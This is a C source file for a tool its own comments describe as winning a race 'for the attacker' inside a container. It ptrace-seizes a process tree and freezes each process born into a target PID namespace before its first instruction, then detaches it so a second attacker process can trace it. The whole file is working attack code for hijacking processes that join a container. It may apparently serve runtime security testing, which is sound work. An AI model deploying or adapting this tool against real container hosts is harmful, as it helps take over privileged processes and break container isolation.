/* SPDX-License-Identifier: Apache-2.0 */
/*
 * hold PID NAMESPACE MILLISECONDS: stop what PID puts into a PID namespace at its birth.
 *
 * An attacker in a container has a race to win: it must seize a joiner before that has given up
 * what there is to take. This program wins it for the attacker. It traces PID, all that PID starts
 * and all that those start. What is born in NAMESPACE ("pid:[4026531836]") is stopped by SIGSTOP
 * before its first instruction, and traced no longer, so that somebody else can. The attacker
 * continues it; if nobody traces it within MILLISECONDS, this program does.
 *
 * It prints "ready" when it traces PID, and "held PID" for each process, by its pid in the
 * namespace. It ends when its standard input does.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/signalfd.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define TRACE	  (PTRACE_O_TRACEFORK | PTRACE_O_TRACEVFORK | PTRACE_O_TRACECLONE)
#define MOST_HELD 64
#define A_LOOK	  20 /* ms */

static struct held {
	pid_t pid;
	long long until;
} held[MOST_HELD];
static size_t held_count;
static const char *target;
static long long patience;

static long long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000LL + ts.tv_nsec / 1000000;
}

/* The last number in a line of /proc/PID/status: of NSpid, the pid in the innermost namespace. */
static long status_number(pid_t pid, const char *name)
{
	char path[64], line[512];
	long number = -1;
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	file = fopen(path, "r");
	while (file && fgets(line, sizeof(line), file)) {
		char *at = strrchr(line, '\t');

		if (at && strncmp(line, name, strlen(name)) == 0)
			number = strtol(at, NULL, 10);
	}
	if (file)
		fclose(file);
	return number;
}

static bool is_in_target(pid_t pid)
{
	char path[64], link[64] = "";

	snprintf(path, sizeof(path), "/proc/%d/ns/pid", pid);
	return readlink(path, link, sizeof(link) - 1) > 0 && strcmp(link, target) == 0;
}

static void hold(pid_t pid)
{
	printf("held %ld\n", status_number(pid, "NSpid:"));
	kill(pid, SIGSTOP);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	if (held_count < MOST_HELD)
		held[held_count++] = (struct held){ pid, now_ms() + patience };
}

/* Let those go that are traced, for their tracer continues them, or that nobody came for. */
static void release(bool all)
{
	size_t kept = 0;

	for (size_t i = 0; i < held_count; i++) {
		bool is_traced = status_number(held[i].pid, "TracerPid:") > 0;

		if (!is_traced && (all || now_ms() > held[i].until))
			kill(held[i].pid, SIGCONT);
		else if (!is_traced)
			held[kept++] = held[i];
	}
	held_count = kept;
}

static void go_on(pid_t pid, int status)
{
	int event = status >> 16;
	int sig = WSTOPSIG(status);

	if (event == PTRACE_EVENT_STOP && is_in_target(pid))
		hold(pid);
	else if (event == PTRACE_EVENT_STOP && sig != SIGTRAP)
		ptrace(PTRACE_LISTEN, pid, 0, 0); /* it was stopped by a signal */
	else
		ptrace(PTRACE_CONT, pid, 0, event ? 0 : sig);
}

static bool seize(pid_t pid)
{
	char path[64];
	struct dirent *entry;
	DIR *folder;
	int count = 0;

	snprintf(path, sizeof(path), "/proc/%d/task", pid);
	folder = opendir(path);
	while (folder && (entry = readdir(folder)))
		if (entry->d_name[0] != '.')
			count += ptrace(PTRACE_SEIZE, atoi(entry->d_name), 0, TRACE) == 0;
	if (folder)
		closedir(folder);
	return count > 0;
}

int main(int argc, char **argv)
{
	struct pollfd fds[2] = { { .fd = STDIN_FILENO, .events = POLLIN }, { .events = POLLIN } };
	struct signalfd_siginfo info;
	sigset_t set;
	int status;
	pid_t pid;

	if (argc != 4)
		return 2;
	target = argv[2];
	patience = atoi(argv[3]);
	setvbuf(stdout, NULL, _IOLBF, 0);
	sigemptyset(&set);
	sigaddset(&set, SIGCHLD);
	sigprocmask(SIG_BLOCK, &set, NULL);
	fds[1].fd = signalfd(-1, &set, SFD_CLOEXEC | SFD_NONBLOCK);
	if (fds[1].fd < 0 || !seize(atoi(argv[1]))) {
		perror("hold");
		return 1;
	}
	puts("ready");
	while (!fds[0].revents) {
		if (poll(fds, 2, held_count ? A_LOOK : -1) < 0 && errno != EINTR)
			return 1;
		while (read(fds[1].fd, &info, sizeof(info)) > 0)
			;
		while ((pid = waitpid(-1, &status, __WALL | WNOHANG)) > 0)
			if (WIFSTOPPED(status))
				go_on(pid, status);
		release(false);
	}
	release(true);
	return 0;
}
